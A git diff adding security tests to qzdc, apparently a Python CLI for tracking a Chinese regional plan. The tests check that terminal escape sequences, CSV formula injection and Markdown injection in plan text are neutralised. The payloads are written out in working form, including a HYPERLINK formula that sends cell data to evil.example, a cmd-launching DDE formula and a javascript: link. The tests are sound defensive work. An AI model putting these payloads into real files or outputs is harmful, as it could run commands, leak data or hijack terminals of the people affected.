@@ -8,9 +8,12 @@ from __future__ import annotations
 
 import dataclasses
 import json
+import re
 from pathlib import Path
 
 import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
 from typer.testing import CliRunner
 
 from conftest import edit
@@ -623,3 +626,340 @@ def test_a_real_pace_against_an_enormous_requirement_keeps_its_sign():
     assert pace_ratio(-0.999996837722209, 99999991724.96358) == -1e-9
     # Float noise in the pace itself (a difference of 1e-16) stays noise, printed as 0.
     assert pace_ratio(-1e-16, 0.05) == pytest.approx(-2e-15)
+
+
+# ── 2. control characters in plan or actuals text never reach a terminal raw ──
+
+# Clear the screen, write the clipboard (OSC 52, ended by BEL), ring, a one-byte C1 CSI, a carriage return.
+ATTACK = "地区\x1b[2J生产\x1b]52;c;aGVsbG8=\x07总值\x9b6n\r"
+ATTACK_YAML = '"地区\\e[2J生产\\e]52;c;aGVsbG8=\\a总值\\x9b6n\\r"'
+SHOWN = "地区\\x1b[2J生产\\x1b]52;c;aGVsbG8=\\x07总值\\x9b6n\\r"
+# The colour codes qzdc writes on purpose (SGR: ESC [ … m); every other control character is an attack.
+_SGR = re.compile(r"\x1b\[[0-9;]*m")
+_RAW_CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f]")
+
+
+def raw_controls(text: str) -> list[str]:
+    return _RAW_CONTROL.findall(_SGR.sub("", text))
+
+
+@pytest.fixture
+def hostile_plan(plan_copy):
+    """The built-in plan with control characters in an indicator's name, a task, a department and an actuals note."""
+    edit(plan_copy / "indicators.yaml", "    name: 地区生产总值\n", f"    name: {ATTACK_YAML}\n")
+    edit(plan_copy / "indicators.yaml", "    name_en: Gross regional product\n", f"    name_en: {ATTACK_YAML}\n")
+    edit(plan_copy / "tasks.yaml", "    name: 打造百亿级产业集群\n", f"    name: {ATTACK_YAML}\n")
+    edit(
+        plan_copy / "tasks.yaml",
+        "    lead: [大足高新区]\n    support: [区发展改革委",
+        f"    lead: [{ATTACK_YAML}]\n    support: [区发展改革委",
+    )
+    (plan_copy / "actuals.yaml").write_text(
+        f"actuals:\n  - {{indicator: gdp, period: 2024, value: 81.2, source: {ATTACK_YAML}, note: {ATTACK_YAML}}}\n",
+        encoding="utf-8",
+    )
+    return plan_copy
+
+
+HOSTILE_COMMANDS = [
+    ["status"],
+    ["status", "--lang", "en"],
+    ["show", "gdp"],
+    ["history", "gdp"],
+    ["tasks"],
+    ["owners"],
+    ["owners", ATTACK],
+    ["indicators"],
+    ["audit"],
+    ["report"],
+    ["status", "--format", "markdown"],
+    ["status", "--format", "json"],
+    ["status", "--format", "csv"],
+    ["history", "gdp", "--format", "csv"],
+    ["indicators", "--format", "json"],
+]
+_NO_ACTUALS = ("tasks", "owners", "indicators")
+
+
+@pytest.mark.parametrize("command", HOSTILE_COMMANDS, ids=lambda c: " ".join(c).replace(ATTACK, "ATTACK"))
+def test_control_characters_in_plan_text_never_reach_the_output_raw(run, hostile_plan, command):
+    args = ["--plan", str(hostile_plan)]
+    if command[0] not in _NO_ACTUALS:
+        args += ["--actuals", str(hostile_plan / "actuals.yaml")]
+    result = run(*command, *args)
+    assert result.exit_code == 0, result.stderr
+    assert raw_controls(result.stdout) == []
+    assert raw_controls(result.stderr) == []
+    if "audit" not in command:  # the audit quotes none of these names
+        # Seen as an escape: \x1b as text (doubled in Markdown), \u001b in JSON.
+        assert "x1b" in result.stdout or "u001b" in result.stdout
+
+
+def test_import_dry_run_shows_control_characters_as_escapes(run):
+    Path("figures.csv").write_text(f"indicator,period,value,source\ngdp,2024,81.2,{ATTACK}\n", encoding="utf-8")
+    result = run("import", "figures.csv", "--dry-run")
+    assert result.exit_code == 0, result.stderr
+    assert raw_controls(result.stdout + result.stderr) == []
+    assert SHOWN.replace("\\r", "") in result.stdout.replace("\n", "") or "\\x1b[2J" in result.stdout
+
+
+def test_an_unknown_name_quoted_in_an_error_shows_its_control_characters_as_escapes(run):
+    result = run("show", "gdp\x1b]0;owned\x07")
+    assert result.exit_code == 2
+    assert raw_controls(result.stderr) == []
+    assert result.stderr.startswith("qzdc: ")
+    assert "\\x1b]0;owned\\x07" in result.stderr
+
+
+def test_a_note_on_stderr_from_deep_inside_qzdc_is_escaped_too(run):
+    result = run("status", "--actuals", "missing\x1b[31m.yaml", "--format", "json")
+    assert result.exit_code == 0
+    assert raw_controls(result.stderr) == []
+    assert "missing\\x1b[31m.yaml" in result.stderr
+
+
+def test_on_a_terminal_only_qzdcs_own_colours_are_escape_sequences(hostile_plan, tmp_path):
+    """A real pseudo-terminal: the rich tables and the document of `show`, coloured."""
+    import os
+    import pty
+    import subprocess
+    import sys
+
+    env = {**os.environ, "PYTHONPATH": str(Path(__file__).parents[1] / "src"), "COLUMNS": "160", "TERM": "xterm"}
+    env.pop("NO_COLOR", None)
+    for command in (["status"], ["show", "gdp"], ["history", "gdp"], ["tasks"], ["owners"]):
+        leader, follower = pty.openpty()
+        args = ["--plan", str(hostile_plan)]
+        if command[0] not in _NO_ACTUALS:
+            args += ["--actuals", str(hostile_plan / "actuals.yaml")]
+        proc = subprocess.run(
+            [sys.executable, "-m", "qzdc", *command, *args],
+            stdout=follower,
+            stderr=subprocess.PIPE,
+            cwd=tmp_path,
+            env=env,
+            timeout=120,
+        )
+        os.close(follower)
+        chunks = []
+        while True:
+            try:
+                chunk = os.read(leader, 65536)
+            except OSError:
+                break
+            if not chunk:
+                break
+            chunks.append(chunk)
+        os.close(leader)
+        out = b"".join(chunks).decode("utf-8", "replace").replace("\r\n", "\n")
+        assert proc.returncode == 0, proc.stderr
+        assert "\x1b[" in out, "a terminal gets colour"
+        assert raw_controls(out) == [], command
+        assert "\\x1b[2J" in out
+
+
+# ── 3. formula cells in CSV ──────────────────────────────────────────────────
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+1+1",
+    "-1+1",
+    "\tx",
+    "\rx",
+]
+
+
+@pytest.mark.parametrize("formula", FORMULAS, ids=["=HYPERLINK", "@SUM", "+", "-", "tab", "CR"])
+def test_csv_text_that_starts_like_a_formula_is_written_as_text(formula):
+    from qzdc.render.formats import csv_value
+
+    cell = csv_value(formula)
+    assert cell.startswith("'") or cell.startswith("\\r")
+    assert cell[0] not in "=+-@\t\r"
+    # Numbers are never touched: −2.5 stays a number Excel can add up.
+    assert csv_value(-2.5) == "-2.5"
+    assert csv_value(-3) == -3
+
+
+@pytest.fixture
+def formula_plan(plan_copy):
+    hyperlink = '=HYPERLINK("http://evil.example/","x")'
+    edit(plan_copy / "indicators.yaml", "    name: 地区生产总值\n", f"    name: '{hyperlink}'\n")
+    edit(plan_copy / "tasks.yaml", "    name: 打造百亿级产业集群\n", "    name: \"@SUM(1+1)*cmd|' /C calc'!A0\"\n")
+    edit(
+        plan_copy / "tasks.yaml",
+        "    lead: [大足高新区]\n    support: [区发展改革委",
+        '    lead: ["-2+3"]\n    support: [区发展改革委',
+    )
+    (plan_copy / "actuals.yaml").write_text(
+        'actuals:\n  - {indicator: gdp, period: 2024, value: 81.2, source: "+1+1", note: "=1+1"}\n', encoding="utf-8"
+    )
+    return plan_copy
+
+
+@pytest.mark.parametrize(
+    "command",
+    [["status"], ["history", "gdp"], ["indicators"], ["tasks"], ["owners"], ["audit"]],
+    ids=lambda c: " ".join(c),
+)
+def test_no_csv_output_holds_a_live_formula(run, formula_plan, command):
+    import csv
+    import io
+
+    args = ["--plan", str(formula_plan)]
+    if command[0] not in _NO_ACTUALS:
+        args += ["--actuals", str(formula_plan / "actuals.yaml")]
+    result = run(*command, "--format", "csv", *args)
+    assert result.exit_code == 0, result.stderr
+    rows = list(csv.reader(io.StringIO(result.stdout.lstrip("\ufeff"))))
+    for row in rows:
+        for cell in row:
+            if cell[:1] in ("=", "+", "@", "\t", "\r"):
+                raise AssertionError(f"live formula {cell!r} in {command}")
+            if cell.startswith("-"):
+                float(cell)  # only a number may start with a minus sign
+
+
+def test_batch_csv_holds_no_live_formula(run, formula_plan):
+    import csv
+    import io
+
+    result = run("batch", str(formula_plan), "--format", "csv")
+    assert result.exit_code == 0, result.stderr
+    cells = [c for row in csv.reader(io.StringIO(result.stdout.lstrip("\ufeff"))) for c in row]
+    assert '\'=HYPERLINK("http://evil.example/","x")' in cells
+    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
+
+
+# ── 4. Markdown injection ────────────────────────────────────────────────────
+
+MD_ATTACK = "[点此](javascript:alert(1)) ![x](http://evil.example/t.png) a|b\rc\x1bd <img src=x> http://evil.example www.evil.example"
+
+
+def _md_tokens(text: str):
+    from markdown_it import MarkdownIt
+
+    return MarkdownIt("commonmark").enable("table").parse(text)
+
+
+def _flatten(tokens):
+    for token in tokens:
+        yield token
+        yield from _flatten(token.children or [])
+
+
+def test_md_escape_keeps_a_table_and_makes_no_link_or_image():
+    from qzdc.render.formats import to_markdown
+    from qzdc.views.view import Column, View
+
+    view = View(data=None, columns=[Column("a", "A"), Column("b", "B")], rows=[{"a": MD_ATTACK, "b": "x"}])
+    text = to_markdown(view)
+    tokens = list(_flatten(_md_tokens(text)))
+    kinds = [t.type for t in tokens]
+    assert "link_open" not in kinds and "image" not in kinds and "html_inline" not in kinds
+    assert kinds.count("tr_open") == 2  # the header and one row: the CR made no second row
+    assert kinds.count("td_open") == 2  # and the | no third column
+    assert raw_controls(text) == []
+    # GFM would link bare addresses by itself: their scheme and www are broken with an escape.
+    assert "http\\://evil.example" in text and "www\\.evil.example" in text
+
+
+@pytest.mark.parametrize(
+    "command", [["status", "--format", "markdown"], ["report"], ["history", "gdp", "--format", "markdown"]]
+)
+def test_markdown_of_a_hostile_plan_keeps_its_tables(run, plan_copy, command):
+    yaml_text = json.dumps(MD_ATTACK)  # a JSON string is a YAML double-quoted string
+    edit(plan_copy / "indicators.yaml", "    name: 地区生产总值\n", f"    name: {yaml_text}\n")
+    (plan_copy / "actuals.yaml").write_text(
+        f"actuals:\n  - {{indicator: gdp, period: 2024, value: 81.2, source: {yaml_text}}}\n", encoding="utf-8"
+    )
+    result = run(*command, "--plan", str(plan_copy), "--actuals", str(plan_copy / "actuals.yaml"))
+    assert result.exit_code == 0, result.stderr
+    tokens = list(_flatten(_md_tokens(result.stdout)))
+    kinds = [t.type for t in tokens]
+    assert "link_open" not in kinds and "image" not in kinds and "html_inline" not in kinds
+    # Every row of every table has as many cells as its header.
+    widths, row = [], 0
+    for token in tokens:
+        if token.type == "tr_open":
+            row = 0
+        elif token.type in ("td_open", "th_open"):
+            row += 1
+        elif token.type == "tr_close":
+            widths.append(row)
+    assert widths and len(set(widths)) <= 3  # one width per table at most (report has three tables)
+    assert raw_controls(result.stdout) == []
+
+
+def test_batch_markdown_of_a_hostile_plan(run, plan_copy):
+    yaml_text = json.dumps(MD_ATTACK)
+    edit(plan_copy / "indicators.yaml", "    name: 地区生产总值\n", f"    name: {yaml_text}\n")
+    result = run("batch", str(plan_copy), "--format", "markdown")
+    assert result.exit_code == 0, result.stderr
+    kinds = [t.type for t in _flatten(_md_tokens(result.stdout))]
+    assert "link_open" not in kinds and "image" not in kinds
+    assert raw_controls(result.stdout) == []
+
+
+def test_a_code_block_in_markdown_cannot_be_closed_by_plan_text():
+    from qzdc.render.formats import md_code
+
+    block = md_code(["```", "a ```` b"])
+    assert block[0] == block[-1] == "`````"
+
+
+# ── the rendering layer, fuzzed ──────────────────────────────────────────────
+
+# Text with control characters of every kind among ordinary and Chinese characters.
+hostile_text = st.text(
+    alphabet=st.one_of(
+        st.characters(min_codepoint=0, max_codepoint=0x9F),
+        st.sampled_from(list("地区生产总值|[]()!<>`*_#\\-=+@:/.w ")),
+        st.characters(categories=["L", "N", "P", "S", "Z"]),
+    ),
+    max_size=40,
+)
+
+
+@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
+@given(texts=st.lists(st.tuples(hostile_text, hostile_text), min_size=1, max_size=4), title=hostile_text)
+def test_no_format_emits_a_raw_control_character_and_csv_and_markdown_keep_their_shape(texts, title):
+    import csv
+    import io
+
+    from qzdc.render.formats import render, to_json
+    from qzdc.render.table import to_table
+    from qzdc.views.view import Column, Document, Section, View
+
+    columns = [Column("a", title or "A"), Column("b", "B"), Column("n", "N", align="right")]
+    rows = [{"a": a, "b": b, "n": -1.5} for a, b in texts]
+    view = View(data=rows, columns=columns, rows=rows, title=title, footer=title)
+    stream = io.StringIO()
+    outputs = {
+        "table": render(view, "table", stream=stream),
+        "rich table": to_table(view, stream, width=100, color=True),
+        "json": to_json(view.data),
+        "csv": render(view, "csv"),
+        "markdown": render(view, "markdown"),
+    }
+    document = Document(data=rows, title=title, sections=[Section(title, view=view, lines=[a for a, _ in texts])])
+    outputs["document"] = render(document, "table", stream=stream)
+    outputs["document markdown"] = render(document, "markdown", stream=stream)
+    outputs["csv"] = outputs["csv"].replace("\r\n", "\n")  # CSV's own line ends (RFC 4180); checked below
+    for name, text in outputs.items():
+        assert raw_controls(text) == [], name
+    # CSV: a header and one record per row, three fields each, every field a text or the number as written.
+    records = list(csv.reader(io.StringIO(render(view, "csv"), newline="")))
+    assert len(records) == 1 + len(rows)
+    assert all(len(r) == 3 for r in records)
+    assert all(r[2] == "-1.5" for r in records[1:])
+    assert not [c for r in records for c in r[:2] if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    # Markdown: one table, a header and one line per row, three cells in each, and nothing that links anywhere.
+    tokens = list(_flatten(_md_tokens(outputs["markdown"])))
+    kinds = [t.type for t in tokens]
+    assert kinds.count("tr_open") == 1 + len(rows)
+    assert kinds.count("td_open") == 3 * len(rows)
+    assert (
+        "link_open" not in kinds and "image" not in kinds and "html_inline" not in kinds and "html_block" not in kinds
+    )
